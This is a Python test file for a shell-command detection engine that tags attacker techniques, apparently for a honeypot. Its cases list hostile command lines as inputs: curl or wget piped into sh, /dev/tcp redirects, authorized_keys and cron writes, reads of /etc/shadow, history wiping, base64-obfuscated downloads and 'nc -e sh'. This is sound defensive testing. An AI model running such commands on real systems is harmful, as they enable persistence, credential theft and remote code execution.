"""``exec`` terms on what a line would run, as the shell view has it."""

from __future__ import annotations

from typing import TYPE_CHECKING, TypeVar, cast

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet.models.tag import evidence_keys
from decnet.shell import DecodeStep, Redirect, SimpleCommand, unroll
from decnet.ttp.command_index import CommandIndex
from decnet.ttp.exec_term import ExecTerm, SimpleCommandView, holds
from decnet.ttp.index import RuleIndex
from decnet.ttp.naive import NaiveIndex
from tests.events import a_command
from tests.ttp.packs import engine_of, pack_of

if TYPE_CHECKING:
    from decnet.models.tag import CommandEvidence


def fires(match: str, line: str) -> bool:
    return bool(engine_of(match).read(line).findings)


@pytest.mark.parametrize(
    ("exec_", "yes", "no"),
    [
        ("{program: whoami}", "ls; who''ami", "echo whoami"),
        ("{program: [id, whoami]}", "/usr/bin/id", "identify x"),
        (r"{program: find, args: '-perm\s+-4000'}", "find / -perm -4000", "ls -perm -4000; find /"),
        (r"{path: '^\./'}", "./bot 1", "/usr/bin/bot"),
        (r"{program: curl, args_not: '-T\b'}", "curl http://203.0.113.7/x", "curl -T x http://203.0.113.7/"),
        ("{redirect_to: '^/etc/cron'}", "echo x >> /etc/cron.d/y", "echo '> /etc/cron.d/y'"),
        ("{append_to: authorized_keys}", "echo k >> ~/.ssh/authorized_keys", "echo k > ~/.ssh/authorized_keys"),
        ("{overwrite: authorized_keys}", "echo k > ~/.ssh/authorized_keys", "echo k >> ~/.ssh/authorized_keys"),
        ("{redirect_from: '^/dev/tcp/'}", "cat < /dev/tcp/203.0.113.7/80", "cat /dev/tcp/203.0.113.7/80"),
        ("{program: chpasswd, here_text: '^root:'}", "chpasswd <<< root:x", "cat <<< root:x"),
        ("{assigns: '^HISTFILE='}", "HISTFILE=/dev/null ls", "echo HISTFILE=/dev/null"),
        ("{pipe_into: [sh, bash]}", "curl -s x.sh | bash", "curl -s x.sh; bash"),
        ("{program: sh, pipe_from: [wget, curl]}", "wget -O- h/x | sh", "cat x | sh"),
        ("{program: cat, wrapper: sudo}", "sudo cat /etc/shadow", "sudo ls; cat /etc/shadow"),
        ("{program: wget, decoded: base64}", "echo d2dldCBoL3g= | base64 -d | sh", "wget h/x"),
        ("{program: ping, background: true}", "ping 203.0.113.7 &", "ping 203.0.113.7"),
        ("{program: ping, background: false}", "ping 203.0.113.7", "ping 203.0.113.7 &"),
        ("{program: nc, in_loop: true}", "for i in 1 2; do nc -z 10.0.0.$i 22; done", "nc -z 10.0.0.1 22"),
        ("{program: wget, obfuscated: true}", 'w"g"et h/x', "wget h/x"),
        ("{program: cat, args: 'é'}", "cat é", "cat e"),
    ],
)
def test_each_part(exec_: str, yes: str, no: str) -> None:
    match = f"{{exec: {exec_}}}"
    assert fires(match, yes)
    assert not fires(match, no)


def test_all_parts_are_of_one_command() -> None:
    match = "{exec: {program: find, args: '-perm'}}"
    assert not fires(match, "find /; ls -perm")


def test_terms_about_commands_and_text_mix() -> None:
    match = "{all: [{exec: {program: cat}}, {contains: '/etc/'}, {not: {exec: {program: grep}}}]}"
    assert fires(match, "cat /etc/issue")
    assert not fires(match, "cat /etc/issue | grep x")
    assert not fires(match, "ls /etc/")


def test_an_emit_can_wait_for_a_command() -> None:
    when = "  - {tactic: TA0011, technique_id: T1071, confidence: 0.8, when: {exec: {program: nc, args: '-e'}}}\n"
    engine = engine_of("{exec: {program: nc}}", emits=when)
    assert [tag.technique_id for tag in engine.tag(a_command("nc -z h 1"))] == ["T1033"]
    assert [tag.technique_id for tag in engine.tag(a_command("nc h 1; nc -e sh h 1"))] == ["T1033", "T1071"]


def test_lines_that_a_program_reads_run_nothing() -> None:
    engine = engine_of("{exec: {program: id}}")
    assert len(engine.tag(a_command("id"))) == 1
    assert engine.tag(a_command("id", stdin=True)) == []


T = TypeVar("T")


# ---- evidence


def evidence_of(match: str, line: str) -> CommandEvidence:
    ((_, evidence),) = engine_of(match).read(line).findings
    assert set(evidence) <= evidence_keys("command")
    return cast("CommandEvidence", evidence)


def test_evidence_is_the_command_where_it_stands_in_the_line() -> None:
    line = 'é; cd /tmp && w"g"et  http://203.0.113.7/x; ls'
    evidence = evidence_of("{exec: {program: wget}}", line)
    assert line.encode()[evidence["start"] : evidence["end"]].decode() == evidence["matched"]
    assert evidence["matched"] == 'w"g"et  http://203.0.113.7/x'
    assert evidence["command"] == "wget http://203.0.113.7/x"
    assert evidence["terms"] == ["match.exec"]
    assert "decoded" not in evidence


def test_evidence_names_the_layers_that_were_taken_off() -> None:
    evidence = evidence_of("{exec: {program: wget}}", "echo d2dldCBoL3g= | base64 -d | sh")
    assert evidence["command"] == "wget h/x"
    assert evidence["decoded"][0].startswith("base64: wget h/x")


@pytest.mark.parametrize(
    ("line", "program"),
    [
        ("echo root:hunter2 | chpasswd", "echo"),
        ("mysql -uroot -phunter2 -e x", "mysql"),
        ("echo bXlzcWwgLXBodW50ZXIyIC1lIHg= | base64 -d | sh", "mysql"),
    ],
)
def test_evidence_holds_no_secret(line: str, program: str) -> None:
    assert "hunter2" not in str(evidence_of(f"{{exec: {{program: {program}}}}}", line))


def test_evidence_is_capped() -> None:
    evidence = evidence_of("{exec: {program: echo}}", "echo " + "é" * 5_000)
    assert len(evidence["command"].encode()) <= 240
    assert len(evidence["matched"].encode()) <= 243  # a character cut in two reads as a mark of three bytes


# ---- the index


def some(one: st.SearchStrategy[T]) -> st.SearchStrategy[tuple[T, ...]]:
    return st.lists(one, max_size=2).map(tuple)


NAMES = st.sampled_from(["a", "b", "sh", ""])
PARTS = st.sampled_from(["args", "path", "redirect_to", "assigns", "here_text"])
TERMS = st.builds(
    ExecTerm,
    programs=st.frozensets(NAMES, max_size=2),
    patterns=some(st.tuples(PARTS, st.sampled_from(["a", "b$", "é"]))),
    names=some(st.tuples(st.sampled_from(["pipe_into", "wrapper"]), st.frozensets(NAMES, min_size=1))),
    flags=some(st.tuples(st.sampled_from(["background", "in_loop"]), st.booleans())),
    forbidden=some(st.tuples(st.just("args"), st.sampled_from(["b", "é"]))),
)
COMMANDS = st.builds(
    SimpleCommand,
    program=NAMES,
    argv=st.just(()),
    args=st.text("ab é", max_size=3),
    path=NAMES,
    start=st.just(0),
    end=st.just(1),
    assignments=some(st.tuples(NAMES, NAMES)),
    redirects=st.lists(st.builds(Redirect, st.sampled_from([">", "<<", ">>"]), st.just(-1), NAMES), max_size=2).map(
        tuple
    ),
    wrappers=some(NAMES),
    pipe_into=some(NAMES),
    decoded=st.just((DecodeStep("hex", "x"),)),
    background=st.booleans(),
    in_loop=st.booleans(),
)


@given(st.lists(TERMS, max_size=6, unique=True), st.lists(COMMANDS, max_size=4))
def test_the_index_finds_what_trying_every_term_finds(terms: list[ExecTerm], commands: list[SimpleCommand]) -> None:
    found: dict[int, SimpleCommandView] = {}
    for number, term in enumerate(terms):
        true_for = [command for command in commands if holds(term, command)]
        if true_for:
            found[number] = true_for[0]
    assert CommandIndex(terms).find(commands) == found


@given(st.lists(st.sampled_from(["id", "cat /etc/x", "sudo id", "|", ";", "&& wget h/x", "> y", "'"]), max_size=6))
def test_an_index_fires_what_the_naive_way_fires_on_lines(words: list[str]) -> None:
    pack = pack_of(
        "{exec: {program: id}}",
        "{exec: {program: cat, args: '/etc/'}}",
        "{any: [{exec: {wrapper: sudo}}, {all: [{contains: h}, {exec: {redirect_to: y}}]}]}",
        "{not: {exec: {program: [id, wget]}}}",
    )
    line = " ".join(words)
    fields, commands = {"command_text": line}, unroll(line).commands
    by_index, naive = (
        [(hit.rule.rule_id, hit.proof) for hit in index.match("command", fields, commands)]
        for index in (RuleIndex(pack), NaiveIndex(pack))
    )
    assert by_index == naive
